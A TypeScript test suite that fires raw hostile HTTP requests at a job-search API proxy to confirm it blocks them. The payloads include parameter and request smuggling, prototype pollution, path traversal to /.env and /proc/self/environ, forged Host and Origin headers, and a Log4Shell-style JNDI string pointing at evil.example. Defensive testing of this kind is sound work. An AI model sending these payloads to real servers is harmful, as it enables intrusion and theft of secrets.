// Clients that try to exceed what is allowed: raw bytes over TCP to the proxy as an operator runs it.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { searchParameterNames } from '../../src/protocol/parameters.ts';
import { sampleResponse, sampleCodeList } from '../protocol/sample.ts';
import { formsOfKey, key } from './key-forms.ts';
import { http, rawUpstream, runHere, type RawUpstream } from './raw-upstream.ts';
import { raw } from './real-http.ts';

let upstream: RawUpstream;
let proxy: Awaited<ReturnType<typeof runHere>>;
before(async () => {
  upstream = await rawUpstream((socket, head) => {
    const isList = head.startsWith('GET /api/codelist/');
    socket.write(http(JSON.stringify(isList ? sampleCodeList() : sampleResponse())));
  });
  proxy = await runHere({
    PORTAL_UPSTREAM_URL: upstream.url,
    PORTAL_KEY: key,
    PORTAL_LOCKED: 'Organization=HE;DJ02&HiringPath=public',
    PORTAL_CACHE_BYTES: '0',
    PORTAL_UPSTREAM_RATE: '0',
    PORTAL_CLIENT_RATE: '0',
    PORTAL_LOG_LEVEL: 'debug',
  });
});

/** The response, and the upstream requests in the meantime. */
async function send(bytes: string, patience = 3_000) {
  const seen = upstream.heads.length;
  const { text } = await raw(proxy.url, Buffer.from(bytes, 'utf8').toString(), patience);
  const heads = upstream.heads.slice(seen);
  for (const form of formsOfKey) assert.equal(text.includes(form), false, text);
  for (const head of heads) {
    const [line = '', ...headers] = head.split('\r\n');
    const target = /^GET (\/api\/(Search|codelist\/[a-z]+))(\?\S*)? HTTP\/1\.1$/.exec(line);
    assert.ok(target, line);
    const names = headers.map((header) => header.split(':', 1)[0]?.toLowerCase() ?? '');
    const own = [
      'host',
      'connection',
      'accept',
      'accept-encoding',
      'accept-language',
      'sec-fetch-mode',
      'user-agent',
      'authorization-key',
    ];
    assert.deepEqual(
      names.filter((name) => !own.includes(name)),
      [],
      head,
    );
    assert.equal(names.includes('authorization-key'), target[2] === 'Search');
    if (target[2] !== 'Search') continue;
    const query = new URLSearchParams(target[3]);
    for (const name of query.keys()) {
      assert.equal((searchParameterNames as string[]).includes(name), true, line);
      assert.equal(query.getAll(name).length, 1, line);
    }
    for (const code of query.get('Organization')?.split(';') ?? ['none'])
      assert.match(code, /^(HE[A-Z0-9]{0,2}|DJ02)$/i, line);
    assert.equal(query.get('HiringPath'), 'public', line);
    assert.equal(query.get('WhoMayApply') ?? 'Public', 'Public', line);
  }
  return {
    text,
    heads,
    statuses: [...text.matchAll(/HTTP\/1\.1 (\d{3}) [A-Z]/g)].map((one) => Number(one[1])),
  };
}
after(async () => {
  await proxy.stop();
  for (const form of formsOfKey) assert.equal(proxy.output().includes(form), false);
});

const close = 'Host: x\r\nConnection: close\r\n\r\n';
const get = (target: string, headers = '') => `GET ${target} HTTP/1.1\r\n${headers}${close}`;

describe('a parameter smuggled past the lock', () => {
  const forms: string[] = [
    // case
    'organization=AF',
    'oRGANIZATION=AF',
    'whomayapply=All',
    'HIRINGPATH=student',
    // encoding of names
    '%4Frganization=AF',
    '%4f%72ganization=AF',
    'Organization%3DAF',
    'Organization%253DAF',
    'Organization%20=AF',
    'Organization%00=AF',
    '+Organization=AF',
    'Organization%E2%80%8B=AF',
    '%D0%9Erganization=AF',
    // overlong and broken UTF-8
    '%C1%8Frganization=AF',
    'Organization=%C1%81F',
    'Organization=%FF',
    'Organization=%ED%A0%80',
    'Organization=%u0041F',
    'Organization=%',
    // encoding of values
    'Organization=%41F',
    'Organization=%2541F',
    'Organization=HE%3BAF',
    'Organization=HE%7CAF',
    'Organization=HE+AF',
    'Organization=HE%00AF',
    'Organization=HE%0D%0AAF',
    // arrays and objects
    'Organization[]=AF',
    'Organization[0]=AF',
    'Organization[$ne]=HE',
    'Organization.0=AF',
    '__proto__[Organization]=AF',
    'constructor[prototype][Organization]=AF',
    // duplicates
    'Organization=HE&Organization=AF',
    'Organization=HE&organization=AF',
    'Organization=HE&%4Frganization=AF',
    'Organization=&Organization=AF',
    // separators
    'Organization=HE;Organization=AF',
    'Keyword=x;Organization=AF',
    'Organization=HE&amp;Organization=AF',
    'Keyword=x%26Organization%3DAF',
    'Keyword=x%23&Organization=AF',
    'Organization=HE?Organization=AF',
    '&Organization=AF',
    'Organization==AF',
    'Organization=HE=AF',
    'Keyword=x%0D%0AOrganization:%20AF',
    // widening by other parameters
    'WhoMayApply=All',
    'WhoMayApply=%41ll',
    'HiringPath=student',
    'HiringPath=public;student',
    'HiringPath=',
    'Organization=',
    'Organization=*',
    'Organization=_',
    'Organization=H',
    'Organization=HE%2A',
    'Organization=-HE',
    'fields=full',
    'Fields=Full%26Organization=AF',
    'lastmodified=2020-01-01',
    'ControlNumber=1',
    'callback=x',
    'ResultsPerPage=501',
    'Page=1%20OR%201=1',
    'Page=1e3',
  ];
  it('has at least sixty forms', () => assert.ok(forms.length >= 60, `${forms.length}`));
  for (const form of forms) {
    it(`${form}: nothing unlisted or wider is sent upstream`, async () => {
      const { statuses } = await send(get(`/api/Search?${form}`));
      assert.equal(statuses.length, 1);
      assert.ok([200, 400].includes(statuses[0] ?? 0), `${statuses.join()}`);
    });
  }
});

describe('an ambiguous request line', () => {
  const table: [string, number[]][] = [
    [get('/api/Search?a\tb'), [400]],
    [get('/api/Search?Keyword=é'), [400]],
    [get('/api/Search?Keyword=a#&Organization=AF'), [400]],
    [get('/api/Search?Keyword=a\\b'), [400]],
    [get('http://x/api/Search'), [400]],
    [get('http://evil.example/api/Archive'), [400]],
    [get('https://evil.example:443/api/Search'), [400]],
    [get('//evil.example/api/Search'), [404]],
    [get('/\\evil.example/api/Search'), [400]],
    [get('api/Search'), [400]],
    [get('*'), [400]],
    [get('?Organization=AF'), [400]],
    [get('/api/Search/../Archive'), [404]],
    [get('/api/./Search'), [404]],
    [get('/api/Search/.'), [404]],
    [get('/api/%2e%2e/api/Search'), [404]],
    [get('/api/..%2fSearch'), [404]],
    [get('/api/%53earch'), [404]],
    [get('/api/Search%3FOrganization=AF'), [404]],
    [get('/api/Search;Organization=AF'), [404]],
    [get('/api/Search%00.json'), [404]],
    [get('/api/search'), [404]],
    [get('/api/Archive?ControlNumber=1'), [404]],
    [get('/api/historicjoa'), [404]],
    [get('/api/textmessaging/status'), [404]],
    [get('/api/codelist/hiringpaths?lastmodified=2020-01-01'), [400]],
    [get('/api/codelist/..%2fSearch'), [404]],
    [get('/api/codelist/HIRINGPATHS'), [404]],
    [get('/metrics'), [404]],
    [get('/.env'), [404]],
    [get('/.git/config'), [404]],
    [get('/proc/self/environ'), [404]],
    [get(`/api/Search?Keyword=${'x'.repeat(5_000)}`), [414]],
    [get(`/${'x'.repeat(15_000)}`), [404]],
    [get('/metrics', 'Expect: x\r\n'), [404]],
    [get(`/${'x'.repeat(20_000)}`), [431]],
    [get('/api/Search', `X-Long: ${'x'.repeat(20_000)}\r\n`), [431]],
    [get('/api/Search', Array.from({ length: 3_000 }, (_, n) => `X-${n}: y\r\n`).join('')), [431]],
    ['GET /api/Search HTTP/1.1 HTTP/1.1\r\n' + close, [400]],
    ['GET /api/Search HTTP/9.9\r\n' + close, [400]],
    ['GET /api/Search HTTP/2.0\r\n' + close, [400]],
    ['GET /api/Search\r\n\r\n', [400]],
    ['get /api/Search HTTP/1.1\r\n' + close, [400]],
    ['POST /api/Search HTTP/1.1\r\nContent-Length: 0\r\n' + close, [405]],
    ['POST /api/textmessaging/status HTTP/1.1\r\nContent-Length: 2\r\n' + close + '{}', [405]],
    ['PUT /api/Search HTTP/1.1\r\nContent-Length: 0\r\n' + close, [405]],
    ['DELETE /api/Search HTTP/1.1\r\n' + close, [405]],
    ['TRACE /api/Search HTTP/1.1\r\n' + close, [405]],
    ['PROPFIND /api/Search HTTP/1.1\r\n' + close, [405]],
    ['BREW /api/Search HTTP/1.1\r\n' + close, [400]],
    ['CONNECT evil.example:443 HTTP/1.1\r\n' + close, [405]],
    ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', [400]],
    ['\x16\x03\x01\x02\x00', [400]],
    ['\0\0\0\0\r\n\r\n', [400]],
    ['nonsense\r\n\r\n', [400]],
  ];
  for (const [bytes, expected] of table) {
    it(`${JSON.stringify(bytes.slice(0, 60))}: ${expected.join()}`, async () => {
      const { statuses, text, heads } = await send(bytes, 3_000);
      assert.deepEqual(statuses, expected, text.slice(0, 500));
      assert.deepEqual(heads, []);
      // Every response has the security headers, even to a malformed request.
      assert.match(text, /^x-content-type-options: nosniff\r$/im);
      assert.match(text, /^content-security-policy: default-src 'none'/im);
      assert.match(text, /^vary: Accept-Encoding\r$/im);
      assert.match(text, /^cache-control: no-store\r$/im);
      assert.match(text, /^x-request-id: \S+\r$/im);
      assert.doesNotMatch(text, /\n\s+at |node_modules|src\/proxy/);
    });
  }
});

describe('an ambiguous header', () => {
  const ordinary: string[] = [
    'X-HTTP-Method-Override: POST',
    'Expect: x',
    'X-Original-URL: /api/Archive',
    'X-Rewrite-URL: /api/Archive',
    'X-Forwarded-Host: evil.example',
    'Forwarded: host=evil.example;for=1.2.3.4',
    'X-Forwarded-For: 127.0.0.1',
    'X-Real-IP: 127.0.0.1',
    'Authorization: Bearer x',
    'Authorization-Key: forged',
    'authorization-key: a\r\nAuthorization-Key: b',
    'Cookie: a=b',
    'Range: bytes=0-1',
    'If-Range: "x"',
    'If-Modified-Since: Mon, 01 Jan 2035 00:00:00 GMT',
    'Accept: text/html',
    'Accept: application/xml',
    'Accept-Encoding: gzip;q=0.0001, br;q=x',
    'Cache-Control: no-cache, no-store',
    'Pragma: no-cache',
    'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk',
    'TE: trailers',
    'Via: 1.1 evil',
    'Max-Forwards: 0',
    'User-Agent: ${jndi:ldap://evil.example/a}',
    'X-Forwarded-Proto: https',
    'X-Query: Organization=AF',
    'Origin: http://x',
  ];
  for (const header of ordinary) {
    it(`${JSON.stringify(header)} changes nothing`, async () => {
      const { statuses, heads } = await send(get('/api/Search?Organization=HE38', `${header}\r\n`));
      assert.deepEqual([statuses, heads.length], [[200], 1]);
    });
  }

  const refused: [string, number][] = [
    ['GET /api/Search HTTP/1.1\r\nConnection: close\r\n\r\n', 400],
    ['GET /api/Search HTTP/1.0\r\n\r\n', 400],
    ['GET /api/Search HTTP/1.1\r\nHost: x\r\nHost: evil.example\r\nConnection: close\r\n\r\n', 400],
    ['GET /api/Search HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n', 400],
    ['GET /api/Search HTTP/1.1\r\nHost: x/y\r\nConnection: close\r\n\r\n', 400],
    ['GET /api/Search HTTP/1.1\r\nHost: user@x\r\nConnection: close\r\n\r\n', 400],
    ['GET /api/Search HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n', 400],
    ['GET /api/Search HTTP/1.1\r\nHost: x\r\nHost : y\r\nConnection: close\r\n\r\n', 400],
    [get('/api/Search', 'Origin: https://evil.example\r\n'), 403],
    [get('/api/Search', 'Origin: null\r\n'), 403],
    [get('/api/Search', 'Origin: http://x\r\nOrigin: https://evil.example\r\n'), 403],
    [get('/api/Search', 'Origin: http://x.evil.example\r\n'), 403],
    [get('/api/Search', 'X: a\0b\r\n'), 400],
    [get('/api/Search', 'X y: a\r\n'), 400],
    [get('/api/Search', 'X: a\r\n folded\r\n').replace('\r\n folded', '\n folded'), 400],
    [get('/api/Search', 'Content-Length: 1\r\nTransfer-Encoding: chunked\r\n'), 400],
    [get('/api/Search', 'Content-Length: 1\r\nContent-Length: 2\r\n'), 400],
    [get('/api/Search', 'Content-Length: -1\r\n'), 400],
    [get('/api/Search', 'Content-Length: 0x10\r\n'), 400],
    [get('/api/Search', 'Transfer-Encoding: identity, chunked, x\r\n'), 400],
    [get('/api/Search', 'Transfer-Encoding : chunked\r\n'), 400],
  ];
  for (const [bytes, status] of refused) {
    it(`${JSON.stringify(bytes.slice(15, 80))}: ${status}`, async () => {
      const { statuses, heads, text } = await send(bytes);
      assert.deepEqual(statuses, [status], text.slice(0, 300));
      assert.deepEqual(heads, []);
      assert.match(text, /^content-type: application\/problem\+json\r$/im);
    });
  }

  it('does not get a request after a body that got a response', async () => {
    const inner = 'GET /api/Search?Organization=HE38 HTTP/1.1\r\nHost: x\r\n\r\n';
    for (const bytes of [
      `GET /api/Search HTTP/1.1\r\nHost: x\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
      `GET /api/Search HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
      `POST /api/Search HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n12345${inner}`,
    ]) {
      const { statuses, text } = await send(bytes);
      assert.equal(statuses.length, 1, text);
      assert.match(text, /^connection: close\r$/im);
    }
  });

  it('does not reorder the responses to pipelined requests', async () => {
    const { statuses } = await send(
      'GET /nothing HTTP/1.1\r\nHost: x\r\n\r\nGET /api/Search HTTP/1.1\r\nHost: x\r\n\r\n' +
        get('/healthz'),
    );
    assert.deepEqual(statuses, [404, 200, 200]);
  });
});
